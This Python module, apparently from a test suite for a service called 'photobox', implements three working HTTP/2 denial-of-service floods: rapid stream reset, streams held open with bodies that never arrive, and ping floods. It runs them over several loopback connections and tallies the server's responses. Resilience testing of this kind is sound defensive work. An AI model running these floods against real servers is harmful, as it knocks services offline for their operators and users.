"""Attacks that only HTTP/2 knows: streams that end as they begin, streams that never end, endless pings."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
from collections.abc import Callable

from h2.connection import H2Connection
from h2.events import ConnectionTerminated, ResponseReceived
from h2.exceptions import H2Error

from tests.support.attacks.wire import BROKEN, Attack

ROUNDS = 40  # of one connection
AT_ONCE = 100  # streams, where the server allows so many


def _head(method: str, path: str) -> list[tuple[str, str]]:
    return [(":method", method), (":scheme", "http"), (":authority", "photobox"), (":path", path)]


def _room(line: H2Connection) -> int:
    return min(AT_ONCE, line.remote_settings.max_concurrent_streams) - line.open_outbound_streams


def _reset_at_once(line: H2Connection) -> None:
    """What is known as rapid reset: the work begins, and the place for the next one is free."""
    for _ in range(AT_ONCE):
        stream = line.get_next_available_stream_id()
        line.send_headers(stream, _head("GET", "/admin/login"), end_stream=True)
        line.reset_stream(stream, 8)


def _leave_open(line: H2Connection) -> None:
    """Bodies that never come, of as many requests as one connection may have."""
    for _ in range(_room(line)):
        stream = line.get_next_available_stream_id()
        line.send_headers(stream, [*_head("POST", "/api/login"), ("content-length", "200000")])


def _ask_and_ping(line: H2Connection) -> None:
    for number in range(AT_ONCE):
        line.ping(number.to_bytes(8))
    for _ in range(_room(line)):
        stream = line.get_next_available_stream_id()
        line.send_headers(stream, _head("GET", "/admin/login"), end_stream=True)


async def http2_floods(attack: Attack) -> None:
    """Each kind on two connections at once, again and again, from six addresses."""
    numbers = itertools.count()
    kinds = (_reset_at_once, _leave_open, _ask_and_ping)

    async def flood() -> None:
        number = next(numbers)
        try:
            await _flood(attack, kinds[number % 3], f"127.0.0.{50 + number % 6}")
        except (OSError, EOFError, H2Error):
            attack.answers[BROKEN] += 1

    await attack.repeat(flood, 6)


async def _flood(attack: Attack, kind: Callable[[H2Connection], None], address: str) -> None:
    line = H2Connection()
    line.initiate_connection()
    async with attack.connection(address) as (reader, writer):
        for _ in range(ROUNDS):
            if not attack.goes_on:
                return
            kind(line)
            writer.write(line.data_to_send())
            await writer.drain()
            said = b""
            with contextlib.suppress(TimeoutError):
                said = await asyncio.wait_for(reader.read(65_536), 0.1)
                if not said:
                    attack.answers["closed"] += 1
                    return
            for event in line.receive_data(said):
                if isinstance(event, ResponseReceived) and event.headers:
                    attack.answers[dict(event.headers)[b":status"].decode()] += 1
                elif isinstance(event, ConnectionTerminated):
                    attack.answers["closed"] += 1
                    return
